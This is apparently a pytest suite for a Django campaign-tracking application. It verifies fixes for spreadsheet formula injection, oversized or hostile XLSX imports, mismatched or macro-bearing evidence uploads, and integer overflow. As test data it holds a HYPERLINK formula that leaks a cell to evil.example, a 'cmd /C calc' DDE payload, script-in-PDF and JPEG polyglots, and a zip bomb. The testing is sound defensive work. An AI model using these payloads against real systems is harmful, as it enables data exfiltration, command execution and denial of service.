"""Files in and out: one writer for every CSV and XLSX (no formula comes back out), bounded
XLSX imports (no workbook holds a worker), evidence files that are what they claim, and counts
past the database's integer refused at the form."""

import csv
import datetime as dt
import io
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from qorgau.campaigns import services
from qorgau.campaigns.models import Activity, Evidence, Organisation
from qorgau.campaigns.tests.test_campaigns import MINISTRY, SYSTEM, row, workbook
from qorgau.core import importing, tabular
from qorgau.core.errors import Invalid
from qorgau.core.importing import ImportRejected
from qorgau.reference.models import Region
from qorgau.training.models import Headcount, Session
from tests.fixtures import make_user

pytestmark = pytest.mark.django_db
SRC = Path(__file__).resolve().parents[4] / "src" / "qorgau"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run as a formula."""
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]


def text_workbook(activities: list[list]) -> bytes:
    """The template with activity rows whose cells are text (a cell typed ``=…`` as text, as
    a spreadsheet saves it when the user types an apostrophe first)."""
    book = load_workbook(io.BytesIO(workbook([])))
    sheet = book["activities"]
    for number, values in enumerate(activities, start=2):
        for column, value in enumerate(values, start=1):
            cell = sheet.cell(number, column, value)
            if isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- Finding 5: one writer, no formula out ------------------------------------------------


def test_no_module_writes_csv_or_xlsx_outside_the_one_writer():
    writers = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|xlsxwriter|write_only")
    readers = re.compile(r"load_workbook\(")
    found = []
    for path in SRC.rglob("*.py"):
        if "tests" in path.relative_to(SRC).parts:
            continue  # tests build workbooks to feed the importers; the rule is the product's
        relative = path.relative_to(SRC).as_posix()
        text = path.read_text(encoding="utf-8")
        if relative != "core/tabular.py" and writers.search(text):
            found.append(relative)
        if relative != "core/importing.py" and readers.search(text):
            found.append(relative)
    assert found == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701 000 00 00", "'+7 701 000 00 00"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (-5, "-5"),
        ("-5", "-5"),
        ("-3.5", "-3.5"),
        ("plain", "plain"),
        (None, ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_numbers_are_not(value, written):
    assert tabular.csv_cell(value) == written


def test_xlsx_writer_types_text_as_text_and_numbers_as_numbers():
    book = tabular.XlsxBook()
    book.sheet("s").append([FORMULA, -5, 2.5, "-5", "ok", None, dt.date(2026, 1, 2)])
    cells = next(iter(load_workbook(io.BytesIO(book.save())).active.iter_rows()))
    assert [c.data_type for c in cells[:5]] == ["s", "n", "n", "s", "s"]
    assert [c.value for c in cells[:5]] == [FORMULA, -5, 2.5, "-5", "ok"]
    assert cells[0].quotePrefix and not cells[4].quotePrefix


def test_imported_formula_text_comes_back_as_text_in_the_plan_and_progress_exports(client, login):
    data = text_workbook([
        [FORMULA, "Тақырып", "video", "stalking", "@audience", "KZ-79", MINISTRY, "",
         "2026-02-15", "planned", "", "", "", 10, 0, 500000, 0, 0, 0],
    ])  # fmt: skip
    plan = services.import_plan(SYSTEM, data)
    assert plan.activities.get().title_kk == FORMULA  # kept as typed
    Organisation.objects.update(name_ru="-1+SUM(A1)")  # a name the progress report shows
    login(client, make_user("campaign_kz", "campaign"))
    client.cookies["django_language"] = "ru"
    exported = client.get(f"/campaigns/plans/{plan.pk}/export.xlsx").content
    progress = client.get("/campaigns/progress.xlsx").content
    assert formula_cells(exported) == [] and formula_cells(progress) == []
    activities = load_workbook(io.BytesIO(exported))["activities"]
    assert activities["A2"].value == FORMULA and activities["A2"].data_type == "s"
    assert activities["P2"].value == 500000 and activities["P2"].data_type == "n"
    # The export still imports back to the same plan (the text is unchanged, not quoted).
    Activity.objects.all().delete()
    plan.delete()
    assert services.import_plan(SYSTEM, exported).activities.get().title_kk == FORMULA


def test_training_export_writes_the_unit_as_text(client, login):
    region = Region.objects.get(code="KZ-79")
    Session.objects.create(
        region=region, body="police", held_on=dt.date(2026, 3, 1), unit=FORMULA,
        participants={"investigator": 3}, topics=["registration"], format="online",
    )  # fmt: skip
    Headcount.objects.create(
        body="police", region=region, as_of=dt.date(2026, 1, 1), headcount=10, source="s"
    )
    login(client, make_user("training_kz", "training"))
    data = client.get("/training/export.xlsx?date_to=2026-06-30").content
    assert formula_cells(data) == []
    sessions = load_workbook(io.BytesIO(data))["sessions"]
    assert sessions["C2"].value == FORMULA and sessions["G2"].data_type == "n"


def test_audit_csv_export_quotes_a_formula_typed_into_a_record(client, login):
    from qorgau.audit.actions import action
    from qorgau.audit.log import write
    from tests.fixtures import SYSTEM

    org = Organisation.objects.create(name_kk=FORMULA, name_ru=FORMULA, kind="ngo")
    write(SYSTEM, action("campaigns.organisation.test", "test: an organisation"), org)
    login(client, make_user("admin_kz", "administrator"))
    rows = list(csv.DictReader(io.StringIO(client.get("/audit/export.csv").content.decode())))
    entry = next(r for r in rows if r["action"] == "campaigns.organisation.test")
    assert entry["object_repr"] == "'" + FORMULA


def test_statistics_csv_and_xlsx_quote_text_and_keep_numbers():
    from qorgau.stats import tables
    from qorgau.stats.services import Filters

    rows = [{"region": FORMULA, "count": -3}]
    text = tables.to_csv("t", Filters(), ["region", "count"], rows).decode()
    assert "'=HYPERLINK(" in text and text.rstrip().endswith(",-3")
    book = load_workbook(io.BytesIO(tables.to_xlsx("t", Filters(), ["region", "count"], rows)))
    cells = next(book.worksheets[0].iter_rows(min_row=2))
    assert (cells[0].data_type, cells[1].value, cells[1].data_type) == ("s", -3, "n")


# --- Finding 6: hostile workbooks ---------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{overrides}</Types>"
)
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def raw_workbook(sheets: dict[str, str], extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook written by hand: ``sheets`` maps a name to its <sheetData> content (or to a
    whole worksheet document when it starts with ``<?xml``)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        names = list(sheets)
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SHEET_TYPE}"/>'
            for i in range(1, len(names) + 1)
        )
        z.writestr("[Content_Types].xml", CONTENT_TYPES.format(overrides=overrides))
        z.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ))  # fmt: skip
        z.writestr("xl/workbook.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} xmlns:r="{REL}"><sheets>'
            + "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, 1))
            + "</sheets></workbook>"
        ))  # fmt: skip
        z.writestr("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(names) + 1))
            + "</Relationships>"
        ))  # fmt: skip
        for i, name in enumerate(names, 1):
            body = sheets[name]
            if not body.startswith("<?xml"):
                body = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{body}</sheetData></worksheet>'
            z.writestr(f"xl/worksheets/sheet{i}.xml", body)
        for name, content in (extra or {}).items():
            z.writestr(name, content)
    return out.getvalue()


def text_row(number: int, values: list[str], column: str = "") -> str:
    cells = "".join(
        f'<c r="{column or get_column_letter(i + 1)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def bounded(data: bytes) -> tuple[ImportRejected, float, int]:
    """Import ``data``, expecting a refusal: the error, the seconds it took, and the peak of
    memory allocated (bytes) in a second run under tracemalloc (which slows it down)."""
    with translation.override("en"):
        started = time.monotonic()
        with pytest.raises(ImportRejected) as caught:
            services.import_plan(SYSTEM, data)
        seconds = time.monotonic() - started
        tracemalloc.start()
        with pytest.raises(ImportRejected):
            services.import_plan(SYSTEM, data)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return caught.value, seconds, peak


def test_declared_dimension_of_the_whole_sheet_is_not_trusted():
    # 2 KB: sheets that claim A1:XFD20000 (16 384 columns) and hold rows 1 and 4 000. Padded
    # to the declared width, the 3 998 rows left out would be 65 million empty cells.
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><dimension ref="A1:XFD20000"/>'
        f"<sheetData>{text_row(1, ['title_kk'])}{text_row(4000, ['x'])}</sheetData></worksheet>"
    )
    data = raw_workbook({"plan": sheet, "activities": sheet})
    assert len(data) < 3000
    error, seconds, peak = bounded(data)
    assert seconds < 3 and peak < 20 * 2**20, (seconds, peak)  # measured: 0.01 s, 0.2 MiB
    assert "required column is missing" in error.report()


def test_workbook_of_two_hundred_thousand_rows_is_refused_at_the_row_limit():
    rows = "".join(text_row(n, ["x"]) for n in range(1, 200_001))
    data = raw_workbook({"plan": text_row(1, ["kind", "national"]), "activities": rows})
    assert 500_000 < len(data) < 2_000_000  # about a megabyte, as in the finding
    error, seconds, peak = bounded(data)
    assert seconds < 5 and peak < 20 * 2**20, (seconds, peak)  # measured: 1 s, 0.7 MiB
    assert f"more than {importing.XLSX_MAX_ROWS} rows" in error.report()
    assert error.errors[0].row == importing.XLSX_MAX_ROWS + 1


def test_far_away_rows_count_towards_the_limit():
    # One row at 1 and one at 1 048 576: openpyxl fills the gap with empty rows.
    data = raw_workbook({"plan": text_row(1, ["a"]) + text_row(1048576, ["b"]),
                         "activities": text_row(1, ["a"])})  # fmt: skip
    error, seconds, _peak = bounded(data)
    assert seconds < 5 and "more than" in error.report()


@pytest.mark.parametrize(
    ("sheets", "extra", "message"),
    [
        ({"plan": text_row(1, ["a"] * 60), "activities": ""}, None, "more than 50 columns"),
        (
            {"plan": text_row(1, ["a"], column="XFD"), "activities": ""},
            None,
            "more than 50 columns",
        ),
        ({"plan": text_row(1, ["a" * 5000]), "activities": ""}, None, "longer than 4000"),
        ({f"s{i}": "" for i in range(12)}, None, "more than 10 sheets"),
        ({"plan": "", "activities": ""}, {"xl/bomb.xml": b" " * (30 * 2**20)}, "unpacks to more"),
        (
            {"plan": "", "activities": ""},
            {f"x/{i}.xml": b"" for i in range(120)},
            "more than 100 parts",
        ),
    ],
)
def test_workbooks_past_a_documented_limit_are_refused_with_a_clear_error(sheets, extra, message):
    error, seconds, _peak = bounded(raw_workbook(sheets, extra))
    assert seconds < 5 and message in error.report()


def test_oversized_upload_and_cli_file_are_refused_as_too_large(client, login, tmp_path):
    big = b"PK" + b"\0" * (importing.XLSX_MAX_BYTES + 10)
    login(client, make_user("campaign_kz", "campaign"))
    client.cookies["django_language"] = "en"
    response = client.post("/campaigns/import/", {"file": SimpleUploadedFile("p.xlsx", big)})
    assert response.status_code == 400 and "larger than 5 MB" in response.content.decode()
    path = tmp_path / "p.xlsx"
    path.write_bytes(raw_workbook({"plan": text_row(1, ["a"] * 60), "activities": ""}))
    with pytest.raises(CommandError, match="more than 50 columns"):
        call_command("import-plan", str(path), "--lang", "en")


# --- Finding 15: evidence files are what they claim ---------------------------------------

PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
)


def _docx() -> bytes:
    import docx

    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def _image(kind: str) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, kind)
    return out.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in entries.items():
            z.writestr(name, content)
    return out.getvalue()


def _macro_docx() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_docx()))
    entries = {n: source.read(n) for n in source.namelist()}
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"word.document.macroEnabled.main+xml"
    )  # what Word writes for a .docm
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    return _zip(entries)


@pytest.fixture
def activity(settings, tmp_path):
    settings.VAR_DIR = tmp_path
    return services.import_plan(SYSTEM, workbook([row("N")])).activities.get()


def _add(activity, name, content):
    upload = SimpleUploadedFile(name, content)
    with translation.override("en"):
        return services.add_evidence(SYSTEM, activity, file=upload)


@pytest.mark.parametrize(
    ("good", "bad"),
    [
        (
            ("report.pdf", PDF),
            (
                "report.pdf",
                b"%PDF-1.4\n<html><script>alert(1)</script></html>\nstartxref\n0\n%%EOF\n",
            ),
        ),
        (("report.pdf", PDF), ("report.pdf", b"%PDF-1.4\n% no trailer, only a header\n")),
        (("minutes.docx", _docx()), ("minutes.docx", _zip({"readme.txt": b"any zip"}))),
        (("minutes.docx", _docx()), ("minutes.docx", _zip({"[Content_Types].xml": b"<Types/>"}))),
        (("table.xlsx", tabular.XlsxBook().save()), ("table.docx", tabular.XlsxBook().save())),
        (("photo.jpg", _image("JPEG")), ("photo.jpg", b"\xff\xd8\xff<html><script>x</script>")),
    ],
)
def test_evidence_must_be_what_its_name_declares(activity, good, bad):
    assert _add(activity, *good).original_name == good[0]
    with pytest.raises(Invalid, match="does not match its type"):
        _add(activity, *bad)
    assert Evidence.objects.count() == 1


def test_office_document_with_macros_is_refused(activity):
    with pytest.raises(Invalid, match="macros"):
        _add(activity, "minutes.docx", _macro_docx())
    assert not Evidence.objects.exists()


def test_evidence_is_served_as_a_sandboxed_download_never_sniffed(client, login, activity):
    evidence = _add(activity, "report.pdf", PDF)
    login(client, make_user("campaign_kz", "campaign"))
    response = client.get(f"/campaigns/evidence/{evidence.pk}/file/")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Content-Type"] == "application/pdf"


# --- Finding 11 (part): counts past the database's integer --------------------------------

TOO_MANY = "2147483648"


def test_activity_count_past_the_integer_range_is_a_form_error(client, login, activity):
    login(client, make_user("campaign_kz", "campaign"))
    client.cookies["django_language"] = "en"
    response = client.post(f"/campaigns/activities/{activity.pk}/update/", {
        "status": "in_progress", "achieved_count": "1", "achieved_reach": TOO_MANY,
        "achieved_participants": "0",
    })  # fmt: skip
    assert response.status_code == 400 and "2147483647" in response.content.decode()
    activity.refresh_from_db()
    assert activity.achieved_reach == 0
    with pytest.raises(Invalid, match="larger than"), translation.override("en"):
        services.update_activity(SYSTEM, activity, status="planned",
                                 achieved_reach=int(TOO_MANY))  # fmt: skip


def test_imported_count_past_the_integer_range_is_a_row_error():
    with pytest.raises(ImportRejected) as caught, translation.override("en"):
        services.import_plan(SYSTEM, workbook([row("N", reach=(int(TOO_MANY), 0))]))
    assert "larger than 2147483647" in caught.value.report()
    assert not Activity.objects.exists()


def test_training_counts_past_the_integer_range_are_form_errors(client, login):
    login(client, make_user("training_79", "training", "KZ-79"))
    client.cookies["django_language"] = "en"
    region = Region.objects.get(code="KZ-79")
    response = client.post("/training/headcounts/new/", {
        "body": "police", "region": region.pk, "as_of": "2026-01-01", "headcount": TOO_MANY,
        "source": "staff list",
    })  # fmt: skip
    assert response.status_code in (200, 400) and "2147483647" in response.content.decode()
    for participants in (f"investigator: {TOO_MANY}", "investigator: " + "9" * 5000,
                         "investigator: 2000000000\ninspector: 2000000000"):  # fmt: skip
        response = client.post("/training/sessions/new/", {
            "held_on": "2026-03-01", "body": "police", "region": region.pk,
            "topics": ["registration"], "format": "online", "participants": participants,
        })  # fmt: skip
        assert response.status_code in (200, 400)
        assert "2147483647" in response.content.decode()
    assert not Headcount.objects.exists() and not Session.objects.exists()
